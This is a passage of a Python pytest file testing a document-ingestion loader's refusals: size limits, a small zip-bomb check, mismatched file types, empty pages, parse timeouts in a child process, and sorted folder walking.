            f.truncate(int(60 * MB))
        assert refusal(tmp_path / name) == "file is 60 MB, above the 50 MB limit"


def test_docx_that_unpacks_to_a_hundred_times_its_size_is_refused(tmp_path: Path, make_docx) -> None:
    bomb = tmp_path / "bomb.docx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b"<w:t>" + b" " * (3 * MB))  # ~3 KB packed
    ratio = (3 * MB + 5) // bomb.stat().st_size
    assert ratio > 100
    assert refusal(bomb) == f"Word file unpacks to 3 MB, {ratio} times its size (a zip bomb?)"
    assert load(make_docx(tmp_path / "plain.docx", ["python-docx's template unpacks to 22x."])).text


def test_docx_without_text_is_refused(tmp_path: Path, make_docx) -> None:
    assert refusal(make_docx(tmp_path / "blank.docx", ["", "   "])) == "no text in the Word file"


def test_wrong_content_for_the_extension_is_named(tmp_path: Path) -> None:
    pdf_as_docx = make_pdf(tmp_path / "report.docx", [["A PDF in disguise"]])
    assert refusal(pdf_as_docx) == "not a .docx Word file: the content is a PDF"
    old_word = tmp_path / "old.docx"
    old_word.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512))
    assert refusal(old_word) == (
        "not a .docx Word file but an old-format Office file (.doc, .xls, .ppt): save it as .docx"
    )
    text_as_docx = tmp_path / "notes.docx"
    text_as_docx.write_text("Just typed notes.")
    assert refusal(text_as_docx) == "not a .docx Word file: the content is not a ZIP archive"
    png_as_html = tmp_path / "page.html"
    png_as_html.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)))
    assert refusal(png_as_html) == "binary content in a .html file (a PNG image; only text is accepted)"
    pdf_as_html = make_pdf(tmp_path / "page.htm", [["A PDF in disguise"]])
    assert refusal(pdf_as_html) == "binary content in a .htm file (a PDF; only text is accepted)"
    nul_html = tmp_path / "nul.html"
    nul_html.write_bytes(b"<html>" + bytes(64))
    assert refusal(nul_html) == "binary content in a .html file (NUL bytes; only text is accepted)"
    plain_as_html = tmp_path / "plain.html"
    plain_as_html.write_text("Typed notes, saved with the wrong extension.\n")
    assert refusal(plain_as_html) == "not a web page (no HTML tags)"


def test_web_page_without_main_text_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "shell.html"
    path.write_text('<html><head><script>var app = "SPA";</script></head><body><div id="root"></div></body></html>')
    assert refusal(path) == "no main text found in the web page"


def test_slow_docx_and_html_parses_are_killed_at_the_time_limit(tmp_path: Path, make_docx, monkeypatch) -> None:
    monkeypatch.setattr(ingest.markup, "docx_text", _slow_parser)
    monkeypatch.setattr(ingest.markup, "html_text", _slow_parser)
    docx_path = make_docx(tmp_path / "slow.docx", ["whatever"])
    html_path = tmp_path / "slow.html"
    html_path.write_text(PORT_PAGE)
    started = time.monotonic()
    assert refusal(docx_path, parse_timeout_s=0.5) == "Word file took longer than 0.5 s to parse"
    assert refusal(html_path, parse_timeout_s=0.5) == "web page took longer than 0.5 s to parse"
    assert time.monotonic() - started < 5


# --- the child process ------------------------------------------------------------------------


def test_slow_pdf_parse_is_killed_at_the_time_limit(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setattr(ingest, "extract_pdf_pages", _slow_parser)
    path = make_pdf(tmp_path / "slow.pdf", [["whatever"]])
    started = time.monotonic()
    assert refusal(path, parse_timeout_s=0.5) == "PDF took longer than 0.5 s to parse"
    assert time.monotonic() - started < 2.5


def test_call_in_child_times_out_and_kills(tmp_path: Path) -> None:
    started = time.monotonic()
    with pytest.raises(TimeoutError):
        call_in_child(time.sleep, 30, timeout_s=0.5)
    assert time.monotonic() - started < 2.5


def test_child_exception_comes_back_as_a_short_reason(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setattr(ingest, "extract_pdf_pages", _failing_parser)
    path = make_pdf(tmp_path / "bad.pdf", [["whatever"]])
    assert refusal(path) == "not a readable PDF (xref table is garbage)"


def test_child_crash_becomes_child_error() -> None:
    with pytest.raises(ingest.ChildError, match="exit code 3"):
        call_in_child(os._exit, 3, timeout_s=10)
    assert call_in_child(len, "four", timeout_s=10) == 4


# --- iter_files -------------------------------------------------------------------------------


def test_iter_files_walks_folders_sorted_supported_and_visible_only(tmp_path: Path) -> None:
    root = tmp_path / "docs"
    for name in (
        "b.txt", "a.md", "C.PDF", "notes.docx", "page.HTM", "old.doc", ".hidden.txt", ".git/config.txt",
        "sub/z.txt", "sub/image.png", "sub/deeper/y.md", "sub/site.html", "sub/.cache/x.md", "aa/k.txt",
    ):  # fmt: skip
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text("x")
    files = iter_files([root])
    assert inspect.isgenerator(files)
    assert [p.relative_to(root).as_posix() for p in files] == [
        "C.PDF", "a.md", "aa/k.txt", "b.txt", "notes.docx", "page.HTM", "sub/deeper/y.md", "sub/image.png", "sub/site.html",
        "sub/z.txt",
    ]  # fmt: skip


def test_iter_files_yields_explicit_paths_as_given(tmp_path: Path) -> None:
    (tmp_path / "memo.odt").write_text("x")
    (tmp_path / ".hidden.txt").write_text("x")
    (tmp_path / "folder").mkdir()
    (tmp_path / "folder" / "in.md").write_text("x")
    given = [tmp_path / "memo.odt", tmp_path / "missing.pdf", tmp_path / ".hidden.txt"]
    walked = list(iter_files([*given, tmp_path / "folder"]))
    assert walked == [*given, tmp_path / "folder" / "in.md"]
